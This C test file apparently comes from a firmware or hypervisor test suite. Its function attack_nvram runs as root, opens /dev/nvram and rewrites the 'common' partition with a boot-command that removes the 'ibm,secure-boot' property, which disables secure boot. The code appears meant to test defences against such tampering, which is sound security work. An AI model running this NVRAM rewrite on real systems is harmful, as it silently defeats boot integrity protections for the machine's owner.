// SPDX-License-Identifier: BSD-2-Clause
// What root can do to the firmware's variables: rewrites NVRAM's partition
// "common" so that boot-command takes the property for secure boot away.

#include "tests/guest/init/nvram.h"

#include "tests/guest/init/sys.h"

#define SIZE 65536
#define BLOCK 16

static const char variables[] =
	"boot-command=dev / 0 0 s\" ibm,secure-boot\" property device-end boot";

static char nvram[SIZE];

// Partitions: signature, checksum, length in blocks, name. [LoPAR, NVRAM]
static char *find_common(void)
{
	unsigned long at = 0, blocks;

	while (at + BLOCK < SIZE) {
		if (starts(nvram + at + 4, "common"))
			return nvram + at;
		blocks = (unsigned long)(unsigned char)nvram[at + 2] << 8 |
			 (unsigned char)nvram[at + 3];
		if (!blocks)
			break;
		at += blocks * BLOCK;
	}
	return 0;
}

void attack_nvram(void)
{
	long fd;
	char *common;

	sys_mknod("/dev/nvram", SYS_S_IFCHR | 0600, 10 << 8 | 144);
	fd = sys_open("/dev/nvram", SYS_O_RDWR);
	if (fd < 0 || sys_read(fd, nvram, SIZE) <= 0) {
		put("QUOIN-TEST: cannot read NVRAM\n");
		return;
	}
	common = find_common();
	if (!common) {
		put("QUOIN-TEST: no partition common\n");
		return;
	}
	copy(common + BLOCK, variables, sizeof(variables));
	common[BLOCK + sizeof(variables)] = 0;
	sys_seek(fd, 0);
	put(sys_write(fd, nvram, SIZE) == SIZE
		    ? "QUOIN-TEST: NVRAM written\n"
		    : "QUOIN-TEST: NVRAM not written\n");
	sys_close(fd);
}
